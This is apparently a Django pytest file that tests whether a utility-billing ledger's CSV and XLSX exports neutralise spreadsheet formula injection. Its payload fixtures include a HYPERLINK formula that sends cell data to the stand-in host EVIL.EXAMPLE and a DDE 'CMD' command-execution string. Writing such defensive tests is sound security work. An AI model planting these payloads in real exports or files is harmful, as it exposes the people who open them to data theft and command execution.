"""No export of the project hands a spreadsheet a live formula (CSV injection).

A utility's file can carry anything in a surname or a customer code; every CSV and XLSX the
project offers is downloaded here with formula payloads in its text cells.
"""

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse

from risorsa.ledger.exports import FORMULA_STARTS, neutralized
from risorsa.ledger.models import Bill, Customer, ImportRun
from risorsa.ledger.services import create_credit
from risorsa.ledger.tests.helpers import import_file
from risorsa.protection.tests.helpers import active_protection

PAYLOADS = {
    "code": "@SUM(1+1)",
    "surname": '=HYPERLINK("HTTP://EVIL.EXAMPLE/?"&C2,"X")',  # the importer upper-cases names
    "name": "+CMD|' /C CALC'!A0",
    "number": "\uff1d1+2",  # a full-width equals sign
}
HEADER = (
    "codice_cliente;codice_fiscale;cognome;nome;servizio;punto_fornitura;indirizzo_fornitura;"
    "numero_fattura;data_emissione;data_scadenza;importo;importo_residuo"
)


def test_a_text_cell_that_a_spreadsheet_would_run_is_neutralised():
    for start in FORMULA_STARTS:
        assert neutralized(f"{start}1+1") == f"'{start}1+1"
    assert neutralized("ROSSI") == "ROSSI"
    assert neutralized("Via 1-2") == "Via 1-2"


def _csv_cells(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body), delimiter=";"))


def _assert_inert(rows: list[list[str]], *payloads: str) -> None:
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    for payload in payloads:
        assert f"'{payload}" in cells, payload


@pytest.fixture
def hostile(utility, personas, tmp_path):
    """A customer whose code, surname, name and bill number are formulas, protected and credited."""
    path = tmp_path / "fatture.csv"
    row = (
        f'{PAYLOADS["code"]};RSSMRA61C14D150U;"{PAYLOADS["surname"].replace(chr(34), chr(34) * 2)}";'
        f"{PAYLOADS['name']};ENERGIA;IT012E10000007;Via Dante 1;{PAYLOADS['number']};01/11/2009;21/11/2009;"
        "383,26;383,26"
    )
    path.write_text(f"{HEADER}\n{row}\n", encoding="utf-8")
    run = import_file(utility, "fatture", path)
    assert run.status == "completato", list(run.issues.values_list("reason", flat=True))
    customer = Customer.objects.get()
    active_protection(customer, personas["comune.operatore"].user)
    create_credit(
        customer=customer,
        kind="COMUNE",
        amount=Decimal("10.00"),
        reason="quota",
        created_on=date(2010, 3, 1),
        bill=Bill.objects.get(),
    )
    return customer


@pytest.mark.django_db
def test_the_arrears_csv_and_xlsx_carry_no_formula(client_for, hostile):
    for persona in ("comune.operatore", "aem.operatore"):
        response = client_for(persona).get(reverse("ledger:arrears-export", args=["csv"]))
        _assert_inert(_csv_cells(response), PAYLOADS["code"], PAYLOADS["surname"], PAYLOADS["name"])
    response = client_for("comune.operatore").get(reverse("ledger:arrears-export", args=["xlsx"]))
    workbook = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no formula anywhere
    assert "hyperlink" not in sheet.lower().replace("'=hyperlink(", "")  # no live link either
    for payload in ("'@SUM(1+1)", "'=HYPERLINK(", "'+CMD|"):
        assert payload in sheet, payload


@pytest.mark.django_db
def test_the_credits_in_transit_csv_carries_no_formula(client_for, hostile):
    response = client_for("aem.operatore").get(reverse("ledger:credits-export"))
    _assert_inert(_csv_cells(response), PAYLOADS["code"], PAYLOADS["number"])


@pytest.mark.django_db
def test_the_utilitys_protected_list_csv_carries_no_formula(client_for, hostile):
    response = client_for("aem.operatore").get(reverse("protection:utility-export"))
    _assert_inert(_csv_cells(response), PAYLOADS["code"], PAYLOADS["surname"], PAYLOADS["name"])


@pytest.mark.django_db
def test_the_invalid_rows_csv_of_a_rejected_file_carries_no_formula(client_for, utility, tmp_path):
    path = tmp_path / "fatture.csv"
    path.write_text(
        f"{HEADER}\nC1;=1+1;ROSSI;MARIO;ENERGIA;IT012E10000007;;F1;01/11/2009;21/11/2009;10,00;-5,00\n",
        encoding="utf-8",
    )
    run = import_file(utility, "fatture", path)
    assert run.status == ImportRun.objects.get().status == "rifiutato"
    response = client_for("aem.operatore").get(reverse("ledger:import-issues-csv", args=[run.pk]))
    _assert_inert(_csv_cells(response), "=1+1", "-5,00")
